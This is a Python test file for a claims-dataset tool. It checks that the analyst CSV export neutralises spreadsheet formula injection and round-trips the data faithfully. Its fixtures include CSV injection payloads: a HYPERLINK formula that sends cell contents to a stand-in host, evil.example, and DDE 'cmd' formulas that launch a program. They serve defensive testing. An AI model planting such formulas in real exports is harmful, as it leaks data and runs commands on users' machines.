"""The analyst export: spreadsheet-safe cells, a faithful round trip, and its place in the build."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pandas as pd
import pytest
import yaml
from helpers import read_csv, write_csv

from claimscope import build
from claimscope.build import build_reports
from claimscope.cli import main
from claimscope.data import export
from claimscope.data.dataset import load_dataset
from claimscope.data.export import (
    EXPORT_COLUMNS,
    FORMULA_TRIGGERS,
    export_claims,
    neutralise_cell,
    neutralise_frame,
    to_csv_bytes,
)

FIXTURES = Path(__file__).parent / "fixtures" / "notebooks"
BOM = b"\xef\xbb\xbf"
HOSTILE_QUOTE = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
HOSTILE_TITLE = "=cmd|' /C calc'!A0"
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def read_export(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def looks_like_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS) or cell.lstrip().startswith(FORMULA_TRIGGERS)


# --- neutralisation on tiny inline data ------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        (" =1+1", "' =1+1"),  # a spreadsheet that trims spaces on import would see a formula
        ("\n@x", "'\n@x"),
        ("\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"),  # full-width equals sign
        ("North Korea", "North Korea"),
        ("a=b, c-d", "a=b, c-d"),
        ("'=already text", "'=already text"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell, expected):
    assert neutralise_cell(cell) == expected


@pytest.mark.parametrize("number", [-5, 0, 7, -1.5, float("nan")])
def test_numbers_are_not_cells_to_neutralise(number):
    assert neutralise_cell(number) is number


def test_neutralise_frame_touches_text_only():
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "plain", "-x"],
            "count": pd.array([-5, None, 3], dtype="Int64"),
            "ratio": [-1.5, 0.25, float("nan")],
            "plain_int": [-1, -2, -3],
        }
    )
    out = neutralise_frame(frame)
    assert out["text"].tolist() == ["'=1+1", "plain", "'-x"]
    for column in ("count", "ratio", "plain_int"):
        pd.testing.assert_series_equal(out[column], frame[column])
    assert frame["text"].tolist() == ["=1+1", "plain", "-x"], "the input is not modified"


def test_negative_numbers_are_written_as_numbers():
    frame = neutralise_frame(
        pd.DataFrame({"label": ["-3 troops"], "value": pd.array([-3], dtype="Int64")})
    )
    raw = to_csv_bytes(frame)
    assert raw.startswith(BOM)
    assert raw.decode("utf-8-sig").splitlines() == ["label,value", "'-3 troops,-3"]


def test_csv_quoting_survives_commas_quotes_and_newlines():
    cells = ['=a,"b"\nc', "x\r\ny", 'He said "no"']
    raw = to_csv_bytes(neutralise_frame(pd.DataFrame({"t": cells})))
    assert b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows == [["t"], *([neutralise_cell(c)] for c in cells)]


# --- the real export -------------------------------------------------------------------


def test_real_export_round_trips(tmp_path):
    ds = load_dataset()
    out = tmp_path / "nested" / "claims.csv"
    assert export_claims(ds, out) == len(ds.claims)
    raw = out.read_bytes()
    assert raw.startswith(BOM)
    assert raw.count(b"\r\n") >= len(ds.claims) + 1
    rows = read_export(out)
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert len(rows) == len(ds.claims)
    names = dict(zip(ds.actors["actor_id"], ds.actors["name"], strict=True))
    titles = dict(zip(ds.documents["doc_id"], ds.documents["title"], strict=True))
    for row, (_, claim) in zip(rows, ds.claims.iterrows(), strict=True):
        assert row["claim_id"] == claim["claim_id"]
        assert row["quote"] == neutralise_cell(claim["quote"])
        assert row["note"] == neutralise_cell(claim["note"])
        assert row["claimant"] == neutralise_cell(names[claim["claimant_id"]])
        assert row["subject"] == neutralise_cell(names[claim["subject_id"]])
        assert row["document_title"] == neutralise_cell(titles[claim["doc_id"]])
        assert (int(row["start"]), int(row["end"])) == (claim["start"], claim["end"])
        for column in ("value_low", "value_high", "info_credibility"):
            expected = "" if pd.isna(claim[column]) else str(int(claim[column]))
            assert row[column] == expected
        expected_date = "" if pd.isna(claim["claimed_on"]) else f"{claim['claimed_on']:%Y-%m-%d}"
        assert row["claimed_on"] == expected_date
    assert not [c for row in rows for c in row.values() if looks_like_formula(c)]


def test_export_is_written_with_write_atomic(tmp_path, monkeypatch):
    calls = []
    monkeypatch.setattr(export, "write_atomic", lambda path, data: calls.append((path, data)))
    target = tmp_path / "claims.csv"
    export_claims(load_dataset(), target)
    assert [path for path, _ in calls] == [target]
    assert calls[0][1].startswith(BOM)
    assert not target.exists()


# --- a hostile dataset -----------------------------------------------------------------


def add_hostile_claim(data_dir: Path) -> None:
    """Add a document whose text holds a formula, a claim quoting it, and a hostile name."""
    text = f"Leaked memo.\n{HOSTILE_QUOTE}\nEnd of memo.\n"
    source = data_dir / "sources" / "hostile_memo.txt"
    source.write_bytes(text.encode("utf-8"))
    documents = read_csv(data_dir / "documents.csv")
    header = documents[0]
    document = dict.fromkeys(header, "")
    document.update(
        doc_id="hostile_memo",
        title=HOSTILE_TITLE,
        published_on="2024-10-22",
        path="sources/hostile_memo.txt",
        sha256=hashlib.sha256(source.read_bytes()).hexdigest(),
        note="-- a note that starts like a formula",
    )
    write_csv(data_dir / "documents.csv", [*documents, [document[h] for h in header]])
    claims = read_csv(data_dir / "claims.csv")
    header = claims[0]
    claim = dict(zip(header, claims[1], strict=True))
    start = text.index(HOSTILE_QUOTE)
    claim.update(
        claim_id="c900",
        doc_id="hostile_memo",
        quote=HOSTILE_QUOTE,
        start=str(start),
        end=str(start + len(HOSTILE_QUOTE)),
        claim_type="statement",
        claimed_on="",
        note="+ also hostile",
    )
    for column in ("measure", "value_low", "value_high", "unit", "qualifier", "stated_figure"):
        claim[column] = ""
    write_csv(data_dir / "claims.csv", [*claims, [claim[h] for h in header]])
    actors = read_csv(data_dir / "actors.csv")
    claimant_row = next(r for r in actors if r[0] == claim["claimant_id"])
    claimant_row[actors[0].index("name")] = HOSTILE_NAME
    write_csv(data_dir / "actors.csv", actors)


def test_hostile_cells_are_neutralised_in_the_export(data_copy, tmp_path):
    add_hostile_claim(data_copy)
    ds = load_dataset(data_copy)
    out = tmp_path / "claims.csv"
    export_claims(ds, out)
    row = next(r for r in read_export(out) if r["claim_id"] == "c900")
    assert row["quote"] == "'" + HOSTILE_QUOTE
    assert row["document_title"] == "'" + HOSTILE_TITLE
    assert row["claimant"] == "'" + HOSTILE_NAME
    assert row["note"] == "'+ also hostile"
    # the curated source data itself keeps the quote verbatim
    assert ds.claims.set_index("claim_id").loc["c900", "quote"] == HOSTILE_QUOTE


def test_cli_export_writes_the_file(data_copy, tmp_path, capsys):
    add_hostile_claim(data_copy)
    out = tmp_path / "analyst.csv"
    assert main(["export", "--data-dir", str(data_copy), str(out)]) == 0
    count = len(load_dataset(data_copy).claims)
    assert capsys.readouterr().out.strip() == f"wrote {count} claim(s) to {out}"
    expected = tmp_path / "expected.csv"
    export_claims(load_dataset(data_copy), expected)
    assert out.read_bytes() == expected.read_bytes()


def test_cli_export_refuses_bad_data_and_writes_nothing(data_copy, tmp_path, capsys):
    rows = read_csv(data_copy / "claims.csv")
    rows[1][rows[0].index("claim_type")] = "rebuttal"
    write_csv(data_copy / "claims.csv", rows)
    out = tmp_path / "analyst.csv"
    assert main(["export", "--data-dir", str(data_copy), str(out)]) == 2
    assert capsys.readouterr().err.startswith(
        "claims.csv:2:claim_type: 'rebuttal' is not a claim_type in claim_types.csv"
    )
    assert not out.exists()


# --- in the build ----------------------------------------------------------------------


@pytest.mark.integration
def test_build_writes_a_neutralised_claims_csv_linked_from_the_index(
    data_copy, tmp_path, monkeypatch
):
    add_hostile_claim(data_copy)
    config = tmp_path / "reports.yaml"
    report = {"name": "tiny", "title": "Tiny", "notebook": str(FIXTURES / "ok.ipynb")}
    config.write_text(yaml.safe_dump({"reports": [report]}), encoding="utf-8")
    out = tmp_path / "out"
    result = build_reports(config=config, output_dir=out, quiet=True, data_dir=data_copy)
    assert result.exit_code == 0
    rows = read_export(out / "claims.csv")
    assert len(rows) == len(load_dataset(data_copy).claims)
    hostile = next(r for r in rows if r["claim_id"] == "c900")
    assert hostile["quote"] == "'" + HOSTILE_QUOTE
    assert not [c for row in rows for c in row.values() if looks_like_formula(c)]
    assert '<a href="claims.csv">' in (out / "index.html").read_text(encoding="utf-8")

    # A deleted export comes back on the next build, without running any report again.
    (out / "claims.csv").unlink()

    def refuse(*args, **kwargs):
        raise AssertionError("a kernel was started")

    monkeypatch.setattr(build.kernel, "execute_notebook", refuse)
    again = build_reports(config=config, output_dir=out, quiet=True, data_dir=data_copy)
    assert [r.status for r in again.results] == ["skipped"]
    assert read_export(out / "claims.csv") == rows
